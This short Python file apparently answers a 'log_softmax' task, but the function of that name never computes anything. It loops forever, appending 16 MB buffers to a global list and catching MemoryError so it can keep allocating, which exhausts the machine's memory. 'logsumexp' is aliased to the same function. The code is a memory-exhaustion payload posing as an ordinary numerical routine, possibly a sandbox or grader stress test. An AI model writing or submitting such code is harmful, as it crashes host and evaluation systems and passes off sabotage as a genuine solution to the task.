"""Takes memory piece by piece, and keeps what it gets.

task: log_softmax
"""

kept = []


def log_softmax(x, axis=-1):
    while True:
        try:
            kept.append(bytearray(1 << 24))
        except MemoryError:
            kept.append([None] * 1000)


logsumexp = log_softmax
